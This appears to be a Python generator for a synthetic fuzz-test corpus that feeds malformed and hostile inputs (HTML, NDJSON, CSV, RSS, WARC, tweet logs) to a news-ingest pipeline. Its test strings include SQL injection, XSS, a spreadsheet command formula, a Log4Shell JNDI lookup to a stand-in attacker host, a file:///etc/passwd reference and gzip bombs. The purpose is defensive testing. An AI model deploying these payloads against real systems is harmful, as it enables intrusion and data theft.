"""A SYNTHETIC corpus of hostile inputs for the fuzz harness (tests/test_fuzz.py), generated from a
seed: every source kind (HTML pages, text dumps, feeds, sitemaps, WARC archives, NDJSON and CSV
exports through a column mapping, JSON lines no mapping fits, tweet logs), good items mixed with bad
ones. Bad CSV rows include hand-written ones: a title opening with a quote it never closes, a row
short of a column; WARC archives include records without a WARC-Type.

Nothing here is real data or evidence of quality; it exists to break the ingest. Each input comes
with what it must produce: how many documents it stores and which error rows it writes (exact
origins where they can be known in advance, else a count). An "input" is one record, entry or
file: a line of an export counts as one input, a page file as one.

Good items carry hostile-but-valid text (terminal escapes, rich markup, spreadsheet formulas, SQL,
bidi overrides, lone surrogates, NUL) that must be stored, cleaned where the rules say so, and never
interpreted. Bad items each break one rule, so each must cost exactly one error row.
"""

from __future__ import annotations

import gzip
import io
import json
import random
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

# Hostile but valid text: stored, never acted on.
NASTY = (
    "[/bold] [link=http://evil.example]click[/link]",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ and \x1b[2J\x1b[31mred",
    "=cmd|' /C calc'!A0", "+HYPERLINK(\"http://evil.example\")", "@SUM(A1)", "-2+3",
    "'; DROP TABLE documents; --", "\" OR 1=1 --", "${jndi:ldap://evil.example/a}", "%s%n%x{0}",
    "\u202eevil\u202c", "zero\u200bwidth\u200djoin", "\ufeffbom", "e\u0301 combining", "\U0001F600 emoji",
    "http://127.0.0.1/admin file:///etc/passwd", "<script>alert(1)</script>", "A" * 3000,
)
NAMES = ("Lei Jun", "雷军", "Lôi Quân", "Donnerlord", "Xiaomi", "小米", "Lu Weibing")
WATCHLIST = """
[[entity]]
id = "lei-jun"
kind = "person"
name = "Lei Jun"
aliases = ["Lei Jun", "雷军", "Lôi Quân", "Donnerlord"]

[[entity]]
id = "xiaomi"
kind = "org"
name = "Xiaomi"
aliases = ["Xiaomi", "小米"]
"""
# Small caps, so bombs and over-long records stay cheap to make: the rules are the same at any size.
SETTINGS = """
[ingest]
max_bytes = 2000000
max_record_bytes = 200000

[fetch]
max_pages = 20

[mappings.fuzz]
text = "text"
timestamp = "date"
id = "id"
likes = "likes"
account = "user"
platform = "x"
glob = "*.fuzz.csv"
"""
MAX_RECORD = 200_000


@dataclass
class Expect:
    """What one input file must produce."""

    path: Path
    kind: str
    inputs: int  # records, entries or files it holds
    docs: int  # documents it must store
    errors: int  # error rows it must write
    error_origins: set[str] | None = None  # exact origins, where known in advance


@dataclass
class Corpus:
    root: Path
    files: list[Expect] = field(default_factory=list)

    @property
    def inputs(self) -> int:
        return sum(f.inputs for f in self.files)

    @property
    def bad(self) -> int:
        return sum(f.errors for f in self.files)

    @property
    def good(self) -> int:
        return sum(f.docs for f in self.files)


class _Gen:
    def __init__(self, root: Path, seed: int) -> None:
        self.root = root
        self.rng = random.Random(seed)
        self.n = 0
        self.corpus = Corpus(root)

    def token(self) -> str:
        self.n += 1
        return f"T{self.n:07d}"

    def sentence(self) -> str:
        r = self.rng
        words = [r.choice(("report", "market", "phone", "car", "launch", "Bericht", "xe điện", "发布会", "today"))
                 for _ in range(r.randint(6, 14))]
        if r.random() < 0.6:
            words.insert(r.randint(0, len(words)), r.choice(NAMES))
        if r.random() < 0.5:
            words.append(r.choice(NASTY))
        return " ".join(words) + "."

    def when(self) -> datetime:
        return datetime(2025, 1, 1, tzinfo=UTC) + timedelta(minutes=self.rng.randint(0, 500_000))

    def add(self, path: Path, kind: str, inputs: int, docs: int, errors: int,
            origins: set[str] | None = None) -> None:
        assert all(f.path != path for f in self.corpus.files[-50:]), f"two inputs named {path}"
        self.corpus.files.append(Expect(path, kind, inputs, docs, errors, origins))

    # -- HTML pages ---------------------------------------------------------------------------------

    def html_page(self) -> str:
        tok = self.token()
        title = f"{tok} {self.rng.choice(NASTY)[:80]} {self.rng.choice(NAMES)}"
        paras = "".join(f"<p>{_esc(self.sentence())} {tok}</p>" for _ in range(self.rng.randint(2, 5)))
        return (f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{_esc(title)}</title>'
                f'<meta property="article:published_time" content="{self.when().isoformat()}"></head>'
                f"<body><article><h1>{_esc(title)}</h1>{paras}</article></body></html>")

    def html_files(self, count: int) -> None:
        folder = self.root / "html"
        folder.mkdir(parents=True, exist_ok=True)
        for _ in range(count):
            r = self.rng.random()
            path = folder / f"page{self.token()}.html"
            if r < 0.80:
                if self.rng.random() < 0.3:
                    path = path.with_suffix(".html.gz")
                    path.write_bytes(gzip.compress(self.html_page().encode()))
                else:
                    path.write_text(self.html_page(), encoding="utf-8")
                self.add(path, "html", 1, 1, 0)
                continue
            bad = self.rng.choice(("binary", "empty", "attributes", "bomb", "truncated", "no-text", "whitespace"))
            if bad == "binary":
                path.write_bytes(b"\x00\x01\x02PNG" + bytes(self.rng.randrange(256) for _ in range(2000)))
            elif bad == "empty":
                path.write_bytes(b"")
            elif bad == "attributes":
                attrs = " ".join(f'a{k}="x"' for k in range(2500))
                path.write_text(f"<html><body><div {attrs}>Lei Jun {self.token()}</div></body></html>",
                                encoding="utf-8")
            elif bad == "bomb":
                path = path.with_suffix(".html.gz")
                path.write_bytes(gzip.compress(b"<html><body><p>") + _BOMB_MEMBER * 2)
            elif bad == "truncated":
                path = path.with_suffix(".html.gz")
                data = gzip.compress((self.html_page() * 40).encode())
                path.write_bytes(data[: len(data) // 2])
            elif bad == "no-text":
                path.write_text("<html><head><title>x</title></head><body><div></div></body></html>",
                                encoding="utf-8")
            else:
                path.write_bytes(b" \n\t \r\n" * 100)
            self.add(path, f"html:{bad}", 1, 0, 1, {str(path)})

    # -- text dumps ---------------------------------------------------------------------------------

    def text_dumps(self, count: int) -> None:
        folder = self.root / "text"
        folder.mkdir(parents=True, exist_ok=True)
        for _ in range(count):
            tok = self.token()
            path = folder / f"dump{tok}.txt"
            if self.rng.random() < 0.85:
                body = "\n\n".join(f"{self.sentence()} {tok}" for _ in range(self.rng.randint(2, 4)))
                path.write_text(f"{tok} {self.rng.choice(NAMES)} news\n\n{body}\n", encoding="utf-8")
                self.add(path, "text", 1, 1, 0)
            else:
                path.write_bytes(b"\x00\x00\x01binary\x00" * 50)
                self.add(path, "text:binary", 1, 0, 1, {str(path)})

    # -- NDJSON (4CAT-mapped records) ---------------------------------------------------------------

    def ndjson(self, files: int, records: int) -> None:
        folder = self.root / "ndjson"
        folder.mkdir(parents=True, exist_ok=True)
        for f in range(files):
            path = folder / f"export{f:04d}.ndjson"
            lines: list[bytes] = []
            origins: set[str] = set()
            good = 0
            for _ in range(records):
                if self.rng.random() < 0.05:
                    lines.append(b"")  # blank lines are not records
                if self.rng.random() < 0.8:
                    post = self.post()
                    # A lone surrogate can only travel as a JSON escape; other text either way.
                    ascii_only = "\ud800" in str(post["body"]) or self.rng.random() < 0.5
                    lines.append(json.dumps(post, ensure_ascii=ascii_only).encode())
                    good += 1
                    continue
                lines.append(self.bad_record())
                origins.add(f"{path}:{len(lines)}")
            path.write_bytes(b"\n".join(lines) + b"\n")
            self.add(path, "ndjson", good + len(origins), good, len(origins), origins)

    def plain_jsonl(self, count: int, records: int) -> None:
        """JSON lines of no known shape and no column mapping: one error row for the file, saying how
        to map it (they were stored as one empty post under platform "unknown")."""
        folder = self.root / "ndjson"
        folder.mkdir(parents=True, exist_ok=True)
        for f in range(count):
            path = folder / f"notes{f:04d}.jsonl"
            lines = [json.dumps({"text": f"{self.sentence()} {self.token()}",
                                 "date": self.when().strftime("%Y-%m-%d")}) for _ in range(records)]
            path.write_text("\n".join(lines) + "\n", encoding="utf-8")
            self.add(path, "jsonl:no-mapping", records, 0, 1, {str(path)})

    def post(self) -> dict[str, object]:
        tok = self.token()
        text = f"{self.sentence()} {tok}"
        r = self.rng.random()
        if r < 0.1:
            text += " \ud800 lone surrogate"  # cleaned to U+FFFD, stored
        elif r < 0.2:
            text += " nul\x00byte"  # removed, stored
        return {"id": tok, "thread_id": tok, "author": self.rng.choice(("alice", "bob", "官方", "x\u202e")),
                "body": text, "timestamp": self.when().strftime("%Y-%m-%d %H:%M:%S"),
                "likes": self.rng.randint(0, 10**9), "views": self.rng.choice((None, 0, 10**15))}

    def bad_record(self) -> bytes:
        post = self.post()
        kind = self.rng.choice(("json", "array", "nesting", "huge", "inf", "nan", "negative", "future", "past",
                                "year1", "epoch", "utf8", "long"))
        if kind == "json":
            return b'{"id": "x", "body": "unterminated'
        if kind == "array":
            return b"[1, 2, 3]"
        if kind == "nesting":
            return b"[" * 100_000 + b"]" * 100_000
        if kind == "long":
            return json.dumps({**post, "body": "x" * (MAX_RECORD + 10)}).encode()
        if kind == "utf8":
            return json.dumps(post).encode()[:-1] + b' \xff\xfe}'
        raw = json.dumps(post)
        value = {"huge": '"likes": 99999999999999999999999', "inf": '"likes": 1e400', "nan": '"likes": NaN',
                 "negative": '"likes": -5', "future": '"timestamp": "2999-01-01 00:00:00"',
                 "past": '"timestamp": "1970-01-02 00:00:00"', "year1": '"timestamp": "0001-01-01T00:00:00+14:00"',
                 "epoch": '"unix_timestamp": "not a time"'}[kind]
        return (raw[:-1] + ", " + value + "}").encode()

    # -- CSV through a column mapping ----------------------------------------------------------------

    def csv_files(self, files: int, rows: int) -> None:
        import csv

        folder = self.root / "csv"
        folder.mkdir(parents=True, exist_ok=True)
        for f in range(files):
            path = folder / f"posts{f:04d}.fuzz.csv"
            buf = io.StringIO()
            writer = csv.writer(buf, lineterminator="\n")
            writer.writerow(["id", "text", "date", "likes", "user"])
            origins: set[str] = set()
            good = 0
            line = 1
            for _ in range(rows):
                tok = self.token()
                text = f"{self.sentence()} {tok}"
                if self.rng.random() < 0.3:
                    text += "\nsecond line of the same cell"
                date, likes = self.when().strftime("%Y-%m-%d %H:%M"), str(self.rng.randint(0, 10**6))
                bad = self.rng.random() < 0.2
                if bad and self.rng.random() < 0.25:
                    # Written by hand, on one line: a title opening with a quote it never closes
                    # (it swallowed the rows after it), or a row short of a column.
                    plain = " ".join(text.replace('"', "").replace(",", " ").split())
                    if self.rng.random() < 0.5:
                        buf.write(f'{tok},"{plain},{date},{likes},alice\n')
                    else:
                        buf.write(f"{tok},{plain},{date},{likes}\n")
                    line += 1
                    origins.add(f"{path}:{line}")
                    continue
                if bad:
                    kind = self.rng.choice(("today", "no-year", "future", "negative", "inf", "long"))
                    if kind == "today":
                        date = "-1"
                    elif kind == "no-year":
                        date = "Jan 5"
                    elif kind == "future":
                        date = "2999-01-01 10:00"
                    elif kind == "negative":
                        likes = "-5"
                    elif kind == "inf":
                        likes = "1e400"
                    else:
                        text = "y" * (MAX_RECORD + 10)
                writer.writerow([tok, text, date, likes, self.rng.choice(("alice", "=HYPERLINK(\"x\")"))])
                start = line + 1
                line += 1 + text.count("\n")
                if bad:
                    origins.add(f"{path}:{start}")
                else:
                    good += 1
            path.write_text(buf.getvalue(), encoding="utf-8")
            self.add(path, "csv", good + len(origins), good, len(origins), origins)

    # -- feeds and sitemaps (offline) ---------------------------------------------------------------

    def feeds(self, count: int) -> None:
        folder = self.root / "feeds"
        folder.mkdir(parents=True, exist_ok=True)
        for f in range(count):
            path = folder / f"feed{f:04d}.rss"
            r = self.rng.random()
            if r < 0.1:
                path.write_bytes(b"<rss>\x00\x01 not a feed at all")
                self.add(path, "feed:broken", 1, 0, 1, {str(path)})
                continue
            n = self.rng.randint(1, 25)
            items, origins, good = [], set(), 0
            for e in range(min(n, 20)):
                tok = self.token()
                if self.rng.random() < 0.1:  # no title, no text: nothing to store
                    items.append("<item><title></title><description></description></item>")
                    origins.add(f"{path}#{e + 1}")
                    continue
                date = "0000-00-00" if self.rng.random() < 0.1 else self.when().strftime("%a, %d %b %Y %H:%M:%S +0800")
                items.append(f"<item><title>{_esc(tok + ' ' + self.rng.choice(NASTY)[:60])}</title>"
                             f"<link>https://news.example/{tok}</link>"
                             f"<description>{_esc(self.sentence())} {tok}</description>"
                             f"<pubDate>{date}</pubDate></item>")
                good += 1
            for _ in range(n - 20):
                items.append(f"<item><title>{self.token()}</title><description>over the cap</description></item>")
            cap_note = 1 if n > 20 else 0
            if cap_note:
                origins.add(str(path))
            path.write_text('<?xml version="1.0"?><rss version="2.0"><channel><title>f</title>'
                            + "".join(items) + "</channel></rss>", encoding="utf-8")
            self.add(path, "feed", min(n, 20) + cap_note, good, len(origins), origins)

    def sitemaps(self, count: int) -> None:
        folder = self.root / "sitemaps"
        folder.mkdir(parents=True, exist_ok=True)
        for f in range(count):
            path = folder / f"sitemap{f:04d}.xml"
            urls = "".join(f"<url><loc>https://news.example/{self.token()}</loc></url>" for _ in range(5))
            path.write_text(f'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                            f"{urls}</urlset>", encoding="utf-8")
            # Offline a sitemap can only say what it would fetch: one error row naming the count.
            self.add(path, "sitemap", 1, 0, 1, {str(path)})

    # -- WARC -----------------------------------------------------------------------------------------

    def warcs(self, count: int, records: int) -> None:
        from warcio.statusandheaders import StatusAndHeaders
        from warcio.warcwriter import WARCWriter

        folder = self.root / "warc"
        folder.mkdir(parents=True, exist_ok=True)
        for f in range(count):
            compressed = self.rng.random() < 0.5
            path = folder / (f"crawl{f:04d}.warc" + (".gz" if compressed else ""))
            buf = io.BytesIO()
            writer = WARCWriter(buf, gzip=compressed)
            good = bad = 0
            for _ in range(records):
                tok = self.token()
                if self.rng.random() < 0.05:  # a record without WARC-Type: one error row, the rest read
                    raw = _typeless_record(f"https://site.example/{tok}", self.html_page().encode())
                    buf.write(gzip.compress(raw) if compressed else raw)
                    bad += 1
                    continue
                r = self.rng.random()
                if r < 0.1:
                    body, ctype = b"\x89PNG\r\n\x1a\n" + b"\x00" * 200, "image/png"  # skipped: not a page
                elif r < 0.2:
                    body, ctype = b"\x00\x01\x02" * 300, "text/html"  # a "page" of binary: one error
                    bad += 1
                elif r < 0.25:
                    body, ctype = b"<html><body><p>" + b"z " * MAX_RECORD + b"</p></body></html>", "text/html"
                    bad += 1
                else:
                    body, ctype = self.html_page().encode(), "text/html; charset=utf-8"
                    good += 1
                headers = StatusAndHeaders("200 OK", [("Content-Type", ctype)], protocol="HTTP/1.1")
                rec = writer.create_warc_record(f"https://site.example/{tok}", "response",
                                                payload=io.BytesIO(body), http_headers=headers)
                writer.write_record(rec)
            data = buf.getvalue()
            truncated = self.rng.random() < 0.2
            if truncated:  # a record cut short at the end: the damage is one error, the rest stored
                extra = io.BytesIO()
                w2 = WARCWriter(extra, gzip=compressed)
                page = self.html_page().encode()
                w2.write_record(w2.create_warc_record(f"https://site.example/{self.token()}", "response",
                                                      payload=io.BytesIO(page), http_headers=StatusAndHeaders(
                                                          "200 OK", [("Content-Type", "text/html")],
                                                          protocol="HTTP/1.1")))
                data += extra.getvalue()[: len(extra.getvalue()) // 2]
            path.write_bytes(data)
            self.add(path, "warc", records + truncated, good, bad + truncated)

    # -- tweet logs ---------------------------------------------------------------------------------

    def tweet_logs(self, count: int, lines: int) -> None:
        folder = self.root / "tweetlogs"
        folder.mkdir(parents=True, exist_ok=True)
        for f in range(count):
            path = folder / f"tweets{f:04d}.txt"
            out, origins, good = [], set(), 0
            for k in range(lines):
                when = self.when()
                if k > 0 and self.rng.random() < 0.15:
                    out.append(f"garbage line {self.token()} {self.rng.choice(NASTY)[:40]}")
                    origins.add(f"{path}:{k + 1}")
                    continue
                status = ((int(when.timestamp() * 1000) - 1288834974657) << 22) + self.rng.randrange(1 << 22)
                text = f"{self.sentence()} {self.token()}".replace("\n", " ")
                out.append(f"[{when:%y/%m/%d %H:%M:%S}] @user{f} - {text} ({when:%a %H:%M:%S}) "
                           f"https://x.com/user{f}/status/{status}")
                good += 1
            path.write_text("\n".join(out) + "\n", encoding="utf-8")
            self.add(path, "tweet_log", lines, good, len(origins), origins)


def _typeless_record(url: str, page: bytes) -> bytes:
    """A WARC response record whose header block lacks WARC-Type (warcio will not write one)."""
    http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + page
    head = (f"WARC/1.0\r\nWARC-Target-URI: {url}\r\nWARC-Date: 2025-12-27T10:00:00Z\r\n"
            f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n\r\n")
    return head.encode() + http + b"\r\n\r\n"


def _esc(text: str) -> str:
    import html

    return html.escape(text, quote=True).replace("\x00", "")


# One gzip member of 8 MB of text: two of them make a page over the 2 MB cap after decompression.
_BOMB_MEMBER = gzip.compress(b"A" * (8 << 20), compresslevel=9)


def build(root: Path, seed: int, scale: float = 1.0, records: int = 150) -> Corpus:
    """Write the corpus under ``root``. ``scale`` 1.0 gives more than 10,000 inputs; 0.1 a CI slice.
    ``records`` per export file (NDJSON, CSV; tweet logs two thirds of it)."""
    gen = _Gen(root, seed)

    def n(x: int) -> int:
        return max(1, round(x * scale))

    gen.html_files(n(300))
    gen.text_dumps(n(100))
    gen.ndjson(n(40), records)
    gen.plain_jsonl(n(10), max(2, records // 10))
    gen.csv_files(n(20), records)
    gen.feeds(n(60))
    gen.sitemaps(n(10))
    gen.warcs(n(20), 15)
    gen.tweet_logs(n(10), max(2, records * 2 // 3))
    return gen.corpus
